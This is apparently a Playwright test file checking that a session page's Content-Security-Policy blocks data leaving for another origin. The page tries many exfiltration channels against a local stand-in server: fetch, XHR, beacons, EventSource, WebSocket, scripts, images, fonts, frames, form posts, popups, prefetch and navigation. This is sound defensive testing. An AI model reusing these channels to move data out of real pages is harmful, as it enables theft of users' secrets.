import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { origin, ports, sessionOrigin } from '../nginx.config';
import { expect, test } from './fixtures';

// Issue 55, point 1: a session's pages (its desktop client, or an app's own page) run in the
// researcher's browser, outside the workspace's network policy. The stream server gives them a
// Content-Security-Policy that keeps every request on their own origin (deploy/README.md, "What a
// session's pages may do"). Here a page on a session's host (the stream-origin layout: the stream
// server on ports.streams in front of backend-shim.mjs) tries every channel towards another
// loopback origin this test runs; that origin must receive nothing, and the page must see each
// attempt blocked. A stand-in desktop client on the same host, framed by the console as a
// desktop is, still connects: its WebSocket to its own origin (from the page and from a worker),
// its own scripts, images and settings, blob: workers, inline scripts and styles.

const consoleOrigin = origin(ports.streamConsole);
const session = '5';
const sessionHost = sessionOrigin(ports.streams, session);
const streamPath = `/api/rest/v1/workbenches/${session}/stream/`;

type Received = { method: string; url: string };
let outside: http.Server;
let outsideOrigin = '';
const received: Received[] = [];

test.beforeAll(async () => {
  // Another origin: answers everything (CORS for all, so that an unblocked fetch would succeed),
  // remembers every request and WebSocket upgrade.
  outside = http.createServer((req, res) => {
    received.push({ method: req.method ?? '', url: req.url ?? '' });
    const type = req.url?.startsWith('/sse') ? 'text/event-stream' : req.url?.startsWith('/script') ? 'text/javascript' : 'text/plain';
    res.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
    res.end(type === 'text/event-stream' ? 'data: hello\n\n' : 'window.outsideScriptRan = true;');
  });
  outside.on('upgrade', (req, socket) => {
    received.push({ method: 'UPGRADE', url: req.url ?? '' });
    socket.destroy();
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  outsideOrigin = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise((resolve) => outside?.close(resolve));
});

test("a session's page cannot send data to another origin by any channel", async ({ browser }) => {
  // A context of its own: the policy violations are what this test expects (the suite's guard
  // watches the fixture's context).
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.addInitScript(() => {
      const seen: { directive: string; blocked: string }[] = [];
      (window as unknown as { __violations: typeof seen }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
    });
    const reply = await page.goto(`${sessionHost}${streamPath}?shim-page`);
    expect(reply?.status()).toBe(200);
    await expect(page.getByTestId('app-page')).toBeVisible();
    received.length = 0;

    const attempts = await page.evaluate(async (to) => {
      const wsTo = to.replace(/^http/, 'ws');
      const outcome: Record<string, string> = {};
      const event = (el: HTMLElement & { onload: unknown; onerror: unknown }, name: string) =>
        new Promise<void>((resolve) => {
          el.onload = () => ((outcome[name] = 'loaded'), resolve());
          el.onerror = () => ((outcome[name] = 'error'), resolve());
        });
      const waits: Promise<unknown>[] = [];
      // fetch, XHR, sendBeacon, EventSource, WebSocket: connect-src.
      waits.push(
        fetch(`${to}/fetch?data=secret`, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(
          () => (outcome.fetch = 'sent'),
          (e: Error) => (outcome.fetch = e.name),
        ),
      );
      waits.push(
        new Promise<void>((resolve) => {
          const xhr = new XMLHttpRequest();
          xhr.open('POST', `${to}/xhr`);
          xhr.onload = () => ((outcome.xhr = 'sent'), resolve());
          xhr.onerror = () => ((outcome.xhr = 'error'), resolve());
          try {
            xhr.send('secret');
          } catch (e) {
            outcome.xhr = (e as Error).name;
            resolve();
          }
        }),
      );
      try {
        outcome.beacon = String(navigator.sendBeacon(`${to}/beacon`, 'secret'));
      } catch (e) {
        outcome.beacon = (e as Error).name;
      }
      waits.push(
        new Promise<void>((resolve) => {
          const source = new EventSource(`${to}/sse?data=secret`);
          source.onopen = () => ((outcome.eventsource = 'open'), source.close(), resolve());
          source.onerror = () => ((outcome.eventsource = 'error'), source.close(), resolve());
        }),
      );
      waits.push(
        new Promise<void>((resolve) => {
          try {
            const socket = new WebSocket(`${wsTo}/ws?data=secret`);
            socket.onopen = () => ((outcome.websocket = 'open'), resolve());
            socket.onerror = () => ((outcome.websocket = 'error'), resolve());
          } catch (e) {
            outcome.websocket = (e as Error).name;
            resolve();
          }
        }),
      );
      // An image, a script, a stylesheet, a media element: their own directives.
      const img = new Image();
      waits.push(event(img as never, 'image'));
      img.src = `${to}/image?data=secret`;
      const script = document.createElement('script');
      waits.push(event(script as never, 'script'));
      script.src = `${to}/script?data=secret`;
      document.head.append(script);
      const style = document.createElement('link');
      waits.push(event(style as never, 'stylesheet'));
      style.rel = 'stylesheet';
      style.href = `${to}/style?data=secret`;
      document.head.append(style);
      const audio = document.createElement('audio');
      waits.push(
        new Promise<void>((resolve) => {
          audio.onerror = () => ((outcome.media = 'error'), resolve());
          audio.oncanplay = () => ((outcome.media = 'loaded'), resolve());
        }),
      );
      audio.src = `${to}/media?data=secret`;
      // A font by the FontFace API: font-src.
      waits.push(
        new FontFace('outside', `url(${to}/font?data=secret)`).load().then(
          () => (outcome.font = 'loaded'),
          (e: Error) => (outcome.font = e.name),
        ),
      );
      // A frame, and a form posted into a frame of this page: frame-src, form-action.
      const frame = document.createElement('iframe');
      frame.src = `${to}/frame?data=secret`;
      document.body.append(frame);
      const sink = document.createElement('iframe');
      sink.name = 'form-sink';
      document.body.append(sink);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${to}/form`;
      form.target = 'form-sink';
      const input = document.createElement('input');
      input.name = 'data';
      input.value = 'secret';
      form.append(input);
      document.body.append(form);
      form.submit();
      // A popup and a prefetch hint.
      outcome.popup = window.open(`${to}/popup?data=secret`) === null ? 'null' : 'opened';
      const prefetch = document.createElement('link');
      prefetch.rel = 'prefetch';
      prefetch.href = `${to}/prefetch?data=secret`;
      document.head.append(prefetch);
      await Promise.all(waits);
      return outcome;
    }, outsideOrigin);

    // Each blocked by the policy, said to the page as a violation of the directive that governs it.
    const expected: [string, string][] = [
      ['/fetch', 'connect-src'],
      ['/xhr', 'connect-src'],
      ['/beacon', 'connect-src'],
      ['/sse', 'connect-src'],
      ['/ws', 'connect-src'],
      ['/image', 'img-src'],
      ['/script', 'script-src-elem'],
      ['/style', 'style-src-elem'],
      ['/media', 'media-src'],
      ['/font', 'font-src'],
      ['/frame', 'frame-src'],
      ['/form', 'form-action'],
      // Chromium checks a prefetch hint against default-src (prefetch-src is gone).
      ['/prefetch', 'default-src'],
    ];
    const violations = () =>
      page.evaluate(() => (window as unknown as { __violations: { directive: string; blocked: string }[] }).__violations);
    // (A blocked navigation, a frame's or a form's, is reported with the other origin only.)
    const navigation = (directive: string) => directive === 'frame-src' || directive === 'form-action';
    for (const [path, directive] of expected) {
      await expect
        .poll(
          async () =>
            (await violations())
              .filter((v) => v.blocked.includes(path) || (navigation(v.directive) && v.blocked.startsWith(outsideOrigin)))
              .map((v) => v.directive),
          { message: `${path} blocked by ${directive}: ${JSON.stringify(await violations())}` },
        )
        .toContain(directive);
    }
    // The page saw each one fail, and never a reply.
    expect(attempts.fetch, 'fetch').toBe('TypeError');
    expect(attempts.xhr, 'XHR').toBe('error');
    expect(attempts.eventsource, 'EventSource').toBe('error');
    expect(['error', 'SecurityError'], 'WebSocket').toContain(attempts.websocket);
    for (const name of ['image', 'script', 'stylesheet', 'media']) expect(attempts[name], name).toBe('error');
    expect(attempts.font, 'font').toBe('NetworkError');
    expect(attempts.popup, 'no popup (sandbox)').toBe('null');
    expect(await page.evaluate(() => (window as unknown as { outsideScriptRan?: boolean }).outsideScriptRan)).toBeUndefined();
    // The other origin received nothing, the prefetch hint included (asked last, after the rest).
    const marker = await fetch(`${outsideOrigin}/marker`);
    expect(marker.status).toBe(200);
    expect(received, 'the other origin heard nothing from the page').toEqual([{ method: 'GET', url: '/marker' }]);

    // Framed by the console, the page cannot navigate itself there either: the console's
    // frame-src governs every navigation of its frames, their own included.
    await page.goto(`${consoleOrigin}/login`);
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { __frameViolations: string[] }).__frameViolations = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    });
    const frameElement = await page.evaluateHandle((src) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts allow-same-origin');
      frame.src = src;
      document.body.append(frame);
      return frame;
    }, `${sessionHost}${streamPath}?shim-page`);
    const frame = (await frameElement.asElement()!.contentFrame())!;
    await expect(frame.getByTestId('app-page')).toBeVisible();
    received.length = 0;
    await frame.evaluate((to) => {
      location.href = `${to}/navigate?data=secret`;
    }, outsideOrigin);
    await expect
      .poll(async () =>
        (await page.evaluate(() => (window as unknown as { __frameViolations: string[] }).__frameViolations)).some((v) =>
          v.startsWith(`frame-src ${outsideOrigin}`),
        ),
      )
      .toBe(true);
    await fetch(`${outsideOrigin}/marker`);
    expect(received, 'no navigation reached the other origin').toEqual([{ method: 'GET', url: '/marker' }]);
  } finally {
    await context.close();
  }
});

test('the session origin sends its policy beside the backend\'s, on every reply', async ({ request }) => {
  for (const path of [`${streamPath}?shim-page`, `${streamPath}__desktop/client.js`, '/nothing-here']) {
    const reply = await request.get(`${sessionHost}${path}`);
    const policies = (await reply.headersArray()).filter((h) => h.name.toLowerCase() === 'content-security-policy').map((h) => h.value);
    expect(policies, path).toContain(`frame-ancestors ${consoleOrigin}`);
    const policy = policies.find((p) => p.startsWith('default-src')) ?? '';
    expect(policy, path).toContain(`connect-src 'self' ws://s${session}.app.localhost:${ports.streams} data: blob:;`);
    expect(policy, path).toContain("form-action 'self'");
    expect(policy, path).toContain("object-src 'none'");
    expect(policy, path).toMatch(/; sandbox [a-z -]+$/);
    expect(policy, path).not.toMatch(/allow-popups|allow-top-navigation/);
    expect(reply.headers()['x-dns-prefetch-control'], path).toBe('off');
  }
});

test('a desktop client framed by the console still connects under the policy', async ({ page }) => {
  // Framed as the console frames a desktop (its origin, a sandbox without popups or top
  // navigation); the suite's guard fails the test on any policy violation in either document.
  await page.goto(`${consoleOrigin}/login`);
  await page.evaluate((src) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-forms allow-pointer-lock allow-modals');
    frame.dataset.testid = 'stand-in-desktop';
    frame.src = src;
    document.body.append(frame);
  }, `${sessionHost}${streamPath}?shim-desktop`);
  const desktop = page.frameLocator('[data-testid="stand-in-desktop"]');
  const checks = [
    'inline script',
    'event handler attribute',
    'inline style',
    'websocket',
    'worker websocket',
    'blob worker',
    'image',
    'data image',
    'xhr',
    'fetch',
  ];
  for (const check of checks) {
    await expect(desktop.locator(`li[data-check="${check}"]`), check).toHaveText('ok');
  }
});
